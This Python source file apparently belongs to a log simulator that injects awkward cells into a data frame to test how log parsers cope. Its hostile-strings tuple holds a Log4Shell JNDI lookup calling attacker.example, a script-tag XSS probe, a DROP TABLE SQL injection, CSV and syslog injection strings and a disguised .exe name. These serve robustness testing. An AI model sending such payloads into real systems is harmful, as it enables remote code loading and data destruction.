"""Content that breaks careless readers, at a low rate: quotes, line ends, huge cells, odd times, hostile text."""

from __future__ import annotations

from collections.abc import Callable

import polars as pl

from agent.simulator.world.random_columns import RandomColumns

RATE = 0.004
"""The share of rows with something awkward in one cell."""

HUGE = 140_000
"""Characters: above the 128 KiB at which Python's csv module stops by default."""

_TEXT = (
    "USER_AGENT", "QUERY", "URI", "URL", "ACTION_MESSAGE", "STACK_TRACE", "EXCEPTION_MESSAGE", "BROWSER_TYPE",
    "SEARCH_QUERY", "PAGE_URL", "REFERRER_URI", "REPORT_DESCRIPTION", "CLIENT_NAME", "MESSAGE", "DESCRIPTION",
)  # fmt: skip
"""Columns whose text comes from outside, so that anything may stand there."""

_LONG = ("QUERY", "ACTION_MESSAGE", "STACK_TRACE", "MESSAGE")

_HOSTILE = (
    'CEF:0|x|y|1|0|z|10|act=allowed src=127.0.0.1 msg=a\\=b \\| "c"',
    "<134>1 2026-01-01T00:00:00Z host app - - - forged\r\n<134>1 - - - - - second line",
    "a=b|c\\d\ne\rf\ttab \x01\x1b[31m bell\x07",
    '${jndi:ldap://attacker.example/a} <script>alert(1)</script> \'; DROP TABLE x; -- ","',
    "Grüße 日本語 العربية \u202etxt.exe \u2028 🏝 e\u0301",
    '","","injected","',
)


def sprinkle(frame: pl.DataFrame, random: RandomColumns) -> pl.DataFrame:
    """The frame with some cells made awkward; its rows stay as many and in order."""
    if frame.is_empty():
        return frame
    chosen = random.whether("awkward", RATE)
    if not chosen.any():
        return frame
    kind = random.below("awkward kind", 10)
    changes: dict[str, pl.Expr] = {}
    for number, (names, value) in enumerate(_KINDS):
        present = [name for name in names if name in frame.columns][:1]
        for name in present:
            here = pl.lit(chosen & (kind == number))
            changes[name] = pl.when(here).then(value(name)).otherwise(changes.get(name, pl.col(name)))
    hostile = pl.lit(random.choice("hostile", _HOSTILE))
    for name in [name for name in _TEXT if name in frame.columns][:1]:
        here = pl.lit(chosen & kind.is_in([8, 9]))
        changes[name] = pl.when(here).then(hostile).otherwise(changes.get(name, pl.col(name)))
    return _one_huge(frame.with_columns(value.alias(name) for name, value in changes.items()), chosen & (kind == 7))


def _one_huge(frame: pl.DataFrame, here: pl.Series) -> pl.DataFrame:
    """At most one cell in a frame is huge."""
    first = here.arg_max() if here.any() else None
    for name in [name for name in _LONG if name in frame.columns][:1] if first is not None else []:
        is_first = pl.int_range(pl.len()) == first
        text = pl.col(name) + pl.lit("SELECT Id FROM Account WHERE Name = 'x' OR " * (HUGE // 44 + 1))
        frame = frame.with_columns(pl.when(is_first).then(text).otherwise(pl.col(name)).alias(name))
    return frame


_KINDS: tuple[tuple[tuple[str, ...], Callable[[str], pl.Expr]], ...] = (
    (_TEXT, lambda name: pl.lit('"') + pl.col(name) + pl.lit('"')),
    (_TEXT, lambda name: pl.col(name) + pl.lit("\n\tat line 2\r\n\tat line 3\n")),
    (("CLIENT_IP",), lambda _: pl.lit("")),
    (("USER_ID_DERIVED",), lambda _: pl.lit("")),
    (("TIMESTAMP_DERIVED",), lambda _: pl.lit("")),
    (("TIMESTAMP",), lambda name: pl.col(name).str.slice(0, 14)),
    (("BOT_ID", "RECORD_ID", "PAGE_ENTITY_ID", "DASHBOARD_ID", "URI_ID_DERIVED"), lambda _: pl.lit(" ")),
)
"""Columns, the first that a type has, and what becomes of their cells. Addresses are never replaced by others: that
would be evidence of something. IPv6 and `Salesforce.com IP` come with the traffic itself."""
